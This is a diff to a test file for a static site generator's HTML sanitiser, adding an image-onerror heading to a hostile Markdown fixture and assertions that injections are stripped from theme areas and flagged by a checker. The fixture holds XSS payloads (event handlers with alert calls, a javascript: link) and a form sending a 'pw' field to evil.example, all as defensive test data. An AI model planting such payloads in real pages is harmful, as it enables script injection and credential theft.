@@ -19,7 +19,7 @@ from generator.checks import check_catalog
 from generator.errors import SourceError
 from generator.html_safety import sanitise_html
 from generator.model import INTERNAL, SITE, client_target
-from generator.theme_scripts import MANIFEST, content_area, script_hash
+from generator.theme_scripts import MANIFEST, content_area, content_span, script_hash
 
 HOSTILE_PATH = "kb/scheduling/hostile.md"
 HOSTILE = """---
@@ -67,6 +67,8 @@ A paragraph with handlers.
 </div>
 
 <form action="https://evil.example/"><input name="pw"><button>Send</button></form>
+
+## Heading with a picture <img src=x onerror="alert('heading-img')">
 
 Code keeps its text: `<script>alert("in-code")</script>`
 
@@ -173,6 +175,8 @@ def test_build_removes_every_injection_from_the_page_and_keeps_its_text(make_pro
         assert kept in content
     # Markup shown as code stays as text, escaped.
     assert '<code>&lt;script&gt;alert("in-code")&lt;/script&gt;</code>' in content
+    start, end = content_span(page)  # nor the theme's part of the page (the table of contents, the nav)
+    assert not re.search(r"onerror|onclick|onmouseover|alert\(", page[:start] + page[end:])
     for other in out.rglob("*.html"):  # no other page (nav, search page, 404) carries any of it
         assert "alert(" not in other.read_text(encoding="utf-8") or other.parent.name == "hostile", other
 
@@ -205,6 +209,7 @@ def test_check_names_each_injection_at_its_line_and_not_markup_in_code(make_proj
         "{ onclick",
         "onmouseover=\"alert('md-in-html')",
         "<form",
+        "<img src=x onerror",
     ):
         assert line_in(HOSTILE, needle) in lines, (needle, sorted(lines), [str(p) for p in problems])
     assert line_in(HOSTILE, "in-code") not in lines and line_in(HOSTILE, "in-fence") not in lines
@@ -247,7 +252,7 @@ def test_handout_carries_no_javascript_link_and_the_client_site_no_injection(mak
     root = make_project("clients")
     source = (root / chapter).read_text(encoding="utf-8")
     # A handout refuses a missing picture (test_clients): this one has no src for the check to refuse.
-    hostile = HOSTILE.split("---\n", 2)[2].replace('src="x.png" ', "")
+    hostile = HOSTILE.split("---\n", 2)[2].replace('src="x.png" ', "").replace("<img src=x ", "<img ")
     hostile += '\n<a href="JaVaScRiPt:alert(1)">pdf-js</a> <a href="https://example.com/">web</a>\n'
     (root / chapter).write_text(source + "\n" + hostile, encoding="utf-8")
     profile = next(iter(load_catalog(root).clients.values()))
